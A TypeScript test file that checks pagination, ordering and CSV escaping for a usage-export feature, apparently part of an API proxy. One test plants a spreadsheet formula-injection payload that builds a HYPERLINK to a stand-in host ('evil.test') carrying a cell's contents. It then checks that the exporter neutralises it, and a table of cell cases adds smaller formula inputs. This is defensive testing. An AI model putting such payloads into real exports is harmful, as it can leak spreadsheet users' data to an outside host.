import { beforeEach, describe, expect, test } from 'vitest';
import type { Store } from '../../../src-proxy/store/open-store.ts';
import { csvLine } from '../../../src-proxy/usage/csv-line.ts';
import { exportPage, type ExportFormat } from '../../../src-proxy/usage/export-usage.ts';
import { generateUsage } from '../../support/generate-usage.ts';
import { openTestStore } from '../../support/open-test-store.ts';

const NOW = Date.parse('2026-03-31T15:20:00Z');
const FROM = NOW - 86_400_000;

let store: Store;

beforeEach(async () => {
  store = await openTestStore();
});

const generate = (count: number): void =>
  generateUsage(store, {
    count,
    fromMs: FROM,
    toMs: NOW,
    keys: 3,
    connections: 2,
    models: 2,
    withSums: false,
  });

function exportAll(format: ExportFormat, pageRows: number, sinceMs = FROM): string {
  let text = '';
  let after: number | null = null;
  do {
    const page = exportPage(store, { format, sinceMs, untilMs: NOW }, after, pageRows);
    text += page.text;
    after = page.afterId;
  } while (after !== null);
  return text;
}

describe('an export', () => {
  test.each([1, 7, 10, 50])('is one JSON array, whatever is read at a time: %s', (pageRows) => {
    generate(50);
    const rows: unknown = JSON.parse(exportAll('json', pageRows));
    expect(rows).toHaveLength(50);
    expect(rows).toMatchObject([
      { started_at: '2026-03-30T15:20:00.000Z' },
      ...Array.from({ length: 49 }, () => ({})),
    ]);
    expect(exportAll('json', pageRows)).toBe(exportAll('json', 1000));
  });

  test.each([1, 10, 50])('is one table, whatever is read at a time: %s', (pageRows) => {
    generate(50);
    const lines = exportAll('csv', pageRows).split('\r\n');
    expect(lines).toHaveLength(52);
    expect(lines[0]).toMatch(/^id,started_at,/);
    expect(lines[1]).toMatch(/^req_\w+,2026-03-30T15:20:00.000Z,/);
    expect(new Set(lines.slice(0, -1).map((line) => line.split(',').length)).size).toBe(1);
  });

  test('of nothing is empty', () => {
    expect(JSON.parse(exportAll('json', 10))).toEqual([]);
    expect(exportAll('csv', 10)).toBe('');
  });

  test('holds what is over in the period, oldest first', () => {
    generate(50);
    store.exec(
      "UPDATE usage_records SET outcome = 'running' WHERE id = (SELECT max(id) FROM usage_records)",
    );
    const rows = exportAll('csv', 10, NOW - 43_200_000)
      .split('\r\n')
      .slice(1, -1);
    expect(rows).toHaveLength(24);
    expect(rows).toEqual(rows.toSorted((one, other) => one.localeCompare(other)));
  });

  test('does not run names from elsewhere as formulas', () => {
    generate(1);
    store.exec(`UPDATE usage_records SET client = '=HYPERLINK("http://evil.test?"&A1)'`);
    store.exec('UPDATE virtual_keys SET label = \'@SUM(1+1), "x"\'');
    const text = exportAll('csv', 10);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.test?""&A1)"`);
    expect(text).toContain(`"'@SUM(1+1), ""x"""`);
  });
});

describe('a cell', () => {
  test.each([
    [null, ''],
    [undefined, ''],
    [0, '0'],
    [-1.5, '-1.5'],
    [true, 'true'],
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@cmd', "'@cmd"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['a=1', 'a=1'],
    [['x', 'y'], '"[""x"",""y""]"'],
  ])('%j is written %j', (value, text) => {
    expect(csvLine([value, 1])).toBe(`${text},1\r\n`);
  });
});
